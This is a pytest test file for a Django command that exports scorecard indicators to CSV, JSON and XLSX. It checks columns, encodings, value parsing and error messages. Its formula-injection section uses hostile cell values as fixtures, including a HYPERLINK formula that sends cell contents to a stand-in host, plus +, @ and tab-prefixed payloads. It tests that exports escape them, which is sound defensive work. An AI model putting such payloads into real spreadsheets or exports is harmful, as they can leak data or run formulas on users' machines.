"""The open-data export (indicators/export.py and the export_indicators command)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from core.models import Body, Cycle
from dashboards.export import COLUMNS
from indicators.domain import ValueType, parse_value
from indicators.models import CommonGroup, Indicator, ScorecardRow
from objectives.models import Scorecard

SECTIONS = {"2.2", "2.3", "2.4", "3"}
ROWS_2023 = 345  # the printed rows of the 2023 cruscotti (see test_demo_document)
DECIMAL_RE = re.compile(r"^-?\d+(\.\d+)?$")
ISO_RE = re.compile(r"^\d{4}-\d{2}-\d{2}$")


def export(tmp_path, fmt: str, year: int = 2023, body: str = "cciaa-bergamo"):
    path = tmp_path / f"indicatori.{fmt}"
    call_command("export_indicators", year=year, body=body, format=fmt, output=str(path))
    return path


def read_csv(path):
    raw = path.read_bytes()
    text = raw.decode("utf-8")  # strict: fails on anything but UTF-8
    return raw, list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx(path):
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["indicatori"]
    return sheet, list(sheet.iter_rows())


@pytest.fixture(scope="module")
def exported(django_db_setup, django_db_blocker, tmp_path_factory):
    """The three exports of the demo year, made once (read-only)."""
    folder = tmp_path_factory.mktemp("export")
    with django_db_blocker.unblock():
        return {fmt: export(folder, fmt) for fmt in ("csv", "json", "xlsx")}


@pytest.fixture(scope="module")
def csv_rows(exported):
    _raw, rows = read_csv(exported["csv"])
    header, *body = rows
    return header, [dict(zip(header, row, strict=True)) for row in body]


# --- the contract -------------------------------------------------------------------------


def test_columns_contract():
    # public downloads rely on these names in this order: changing them is a breaking change
    assert COLUMNS == [
        "year",
        "section",
        "cruscotto",
        "perspective",
        "strategic_objective_code",
        "strategic_objective",
        "operational_objective",
        "indicator",
        "kind",
        "direction",
        "target",
        "actual",
        "realization",
        "declared_realization",
        "target_value",
        "actual_value",
        "realization_pct",
        "weight",
        "unit_of_measure",
        "notes",
        "correction_reason",
        "cruscotto_realization_pct",
        "cruscotto_valued",
        "cruscotto_indicators",
        "year_realization_pct",
        "year_valued",
        "year_indicators",
        "row_weight",
        "cruscotto_points",
        "cruscotto_judgement",
        "year_points",
        "year_judgement",
        "baseline",
        "baseline_year",
        "baseline_value",
        "target_n1",
        "target_n1_value",
        "target_n2",
        "target_n2_value",
        "common_code",
    ]


def test_csv_header_and_rows(exported, cycle):
    raw, rows = read_csv(exported["csv"])
    assert rows[0] == COLUMNS
    assert raw.startswith(b"year,section,cruscotto,")  # header first, no BOM
    assert b"\r\n" in raw
    assert len(rows) - 1 == ROWS_2023
    assert len(rows) - 1 == ScorecardRow.objects.filter(scorecard__cycle=cycle).count()
    assert all(len(row) == len(COLUMNS) for row in rows)


def test_csv_is_utf8(exported):
    text = exported["csv"].read_bytes().decode("utf-8")
    assert "Attrattività del territorio" in text
    assert "Qualità" in text


def test_json_rows_have_the_columns_in_order(exported):
    data = json.loads(exported["json"].read_text(encoding="utf-8"))
    assert isinstance(data, list)
    assert len(data) == ROWS_2023
    assert all(list(item) == COLUMNS for item in data)
    assert "Attrattività" in exported["json"].read_text(encoding="utf-8")  # not \u-escaped


def test_xlsx_header_and_rows(exported):
    sheet, rows = read_xlsx(exported["xlsx"])
    assert [c.value for c in rows[0]] == COLUMNS
    assert len(rows) - 1 == ROWS_2023
    assert sheet.max_column == len(COLUMNS)


def test_every_section_and_cruscotto_is_exported(csv_rows, cycle):
    _header, rows = csv_rows
    assert {r["section"] for r in rows} == SECTIONS
    exported = {(r["section"], r["cruscotto"]) for r in rows}
    expected = set()
    for sc in Scorecard.objects.filter(cycle=cycle).select_related("strategic_objective"):
        code = sc.strategic_objective.code if sc.section == "2.2" else sc.title
        expected.add((sc.section, code))
    assert exported == expected
    assert len(exported) == 28


def test_rows_follow_the_document_order(csv_rows):
    _header, rows = csv_rows
    sections = [r["section"] for r in rows]
    firsts = [sections.index(s) for s in ("2.2", "2.3", "2.4", "3")]
    assert firsts == sorted(firsts)
    # each cruscotto is one contiguous block
    blocks = [(r["section"], r["cruscotto"]) for r in rows]
    changes = [b for i, b in enumerate(blocks) if i == 0 or b != blocks[i - 1]]
    assert len(changes) == len(set(changes)) == 28


def test_same_content_in_every_format(exported, csv_rows):
    _header, rows = csv_rows
    data = json.loads(exported["json"].read_text(encoding="utf-8"))
    _sheet, xrows = read_xlsx(exported["xlsx"])
    for c, j, x in zip(rows, data, xrows[1:], strict=True):
        for key in ("section", "cruscotto", "indicator", "target", "actual", "realization"):
            # the demo has no text starting with a formula character except plain numbers
            assert c[key] == j[key] == (x[COLUMNS.index(key)].value or ""), key


# --- machine-readable columns ---------------------------------------------------------------


def test_machine_columns(csv_rows):
    _header, rows = csv_rows
    for row in rows:
        assert row["year"] == "2023"
        assert DECIMAL_RE.match(row["weight"]), row["weight"]
        for key, text_key in (("target_value", "target"), ("actual_value", "actual")):
            value, parsed = row[key], parse_value(row[text_key])
            if parsed.type is ValueType.NUMBER:
                assert DECIMAL_RE.match(value), value
                assert Decimal(value) == parsed.number
            elif parsed.type is ValueType.DATE:
                assert ISO_RE.match(value), value
                assert dt.date.fromisoformat(value) == parsed.date
            elif parsed.type is ValueType.BOOLEAN:
                assert value == ("true" if parsed.flag else "false")
            else:  # NV, monitoraggio, empty, invalid
                assert value == ""
        if row["realization"] == "NV":
            assert row["realization_pct"] == ""
        else:
            assert DECIMAL_RE.match(row["realization_pct"]), row["realization_pct"]
            assert Decimal(0) <= Decimal(row["realization_pct"]) <= Decimal(100)


def test_machine_columns_have_one_example_of_each_type(csv_rows):
    _header, rows = csv_rows
    values = [r["actual_value"] for r in rows] + [r["target_value"] for r in rows]
    assert "2023-06-30" in values  # 30/06/2023
    assert "true" in values  # SI
    assert "1284" in values  # 1.284
    assert "98.77" in values  # 98,77%
    assert "-25" in values
    assert "" in values  # NV / monitoraggio
    nv = [r for r in rows if r["actual"] == "NV"]
    assert nv and all(r["actual_value"] == "" and r["realization_pct"] == "" for r in nv)


def test_xlsx_numbers_are_numbers(exported):
    _sheet, rows = read_xlsx(exported["xlsx"])
    index = {name: i for i, name in enumerate(COLUMNS)}
    for row in rows[1:]:
        assert row[index["year"]].value == 2023
        assert row[index["year"]].data_type == "n"
        pct = row[index["realization_pct"]]
        if row[index["realization"]].value == "NV":
            assert pct.value in (None, "")
        else:
            assert pct.data_type == "n"
            assert 0 <= pct.value <= 100
    iso_dates = [r[index["target_value"]].value for r in rows[1:]]
    assert "2023-06-30" in iso_dates  # dates stay ISO text


def test_csv_to_stdout(cycle):
    out = io.StringIO()
    call_command("export_indicators", year=2023, body="cciaa-bergamo", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == COLUMNS
    assert len(rows) - 1 == ROWS_2023


def test_unknown_year_is_a_clear_italian_error(db):
    with pytest.raises(CommandError) as excinfo:
        call_command("export_indicators", year=1999, format="csv")
    message = str(excinfo.value)
    assert "1999" in message
    assert "Nessun ciclo" in message


def test_unknown_format_is_refused(db):
    with pytest.raises(CommandError):
        call_command("export_indicators", "--year", "2023", "--format", "pdf")


# --- formula injection ------------------------------------------------------------------------


INJECTIONS = [
    '=HYPERLINK("http://example.com/?x="&A1,"clic")',
    "+SUM(1+1)",
    "@SUM(1+1)",
    "\tcmd",
]
INJECTION_YEAR = 2031


@pytest.fixture
def injected(db):
    """A small open year of another body whose indicator names try formula injection."""
    body = Body.objects.create(name="Ente di prova", slug="ente-di-prova")
    year = Cycle.objects.create(body=body, year=INJECTION_YEAR)
    group = CommonGroup.objects.create(cycle=year, name="=GRUPPO()")
    scorecard = Scorecard.objects.create(
        cycle=year, section="2.3", title=group.name, slug="comuni-gruppo"
    )
    for i, name in enumerate(INJECTIONS):
        indicator = Indicator.objects.create(
            cycle=year,
            common_group=group,
            name=name,
            kind="number",
            direction="lower",
            target="30",
            actual="-25",
            notes="=1+2" if i == 0 else "",
            order=i,
        )
        ScorecardRow.objects.create(
            scorecard=scorecard, indicator=indicator, order=i, declared_realization="100%"
        )
    return year


def test_csv_cells_are_escaped(injected, tmp_path):
    _raw, rows = read_csv(export(tmp_path, "csv", INJECTION_YEAR, "ente-di-prova"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(INJECTIONS)
    col = {name: i for i, name in enumerate(header)}
    by_name = {row[col["indicator"]]: row for row in body}
    for name in INJECTIONS:
        row = by_name["'" + name]  # escaped, once
        assert row[col["actual"]] == "-25"  # a plain negative number is not escaped
        assert row[col["actual_value"]] == "-25"
        assert row[col["realization_pct"]] == "100"
    first = by_name["'" + INJECTIONS[0]]
    assert first[col["notes"]] == "'=1+2"
    assert first[col["cruscotto"]] == "'=GRUPPO()"
    assert first[col["operational_objective"]] == "'=GRUPPO()"
    assert not any(cell.startswith(("=", "+", "@", "\t")) for row in body for cell in row)


def test_xlsx_cells_are_escaped_text(injected, tmp_path):
    _sheet, rows = read_xlsx(export(tmp_path, "xlsx", INJECTION_YEAR, "ente-di-prova"))
    col = {cell.value: i for i, cell in enumerate(rows[0])}
    cells = {row[col["indicator"]].value: row for row in rows[1:]}
    for name in INJECTIONS:
        row = cells["'" + name]
        assert row[col["indicator"]].data_type == "s"  # a string, not a formula
        assert row[col["actual"]].value == "-25"
        assert row[col["actual_value"]].value == -25  # a number cell
    assert not any(c.data_type == "f" for row in rows for c in row)


def test_json_keeps_values_as_they_are(injected, tmp_path):
    data = json.loads(
        export(tmp_path, "json", INJECTION_YEAR, "ente-di-prova").read_text(encoding="utf-8")
    )
    assert [item["indicator"] for item in data] == INJECTIONS


def test_export_asks_which_body_when_several_have_the_year(cycle, tmp_path):
    from core.locking import unlocked
    from core.models import Body, Cycle

    other = Body.objects.create(name="Altro ente", slug="altro-ente")
    with unlocked():
        Cycle.objects.create(body=other, year=2023)
    with pytest.raises(CommandError, match="--ente"):
        call_command("export_indicators", "--year", "2023")
    out = tmp_path / "a.csv"
    call_command(
        "export_indicators", "--year", "2023", "--ente", cycle.body.slug, "--output", str(out)
    )
    assert len(out.read_text(encoding="utf-8").splitlines()) == 346
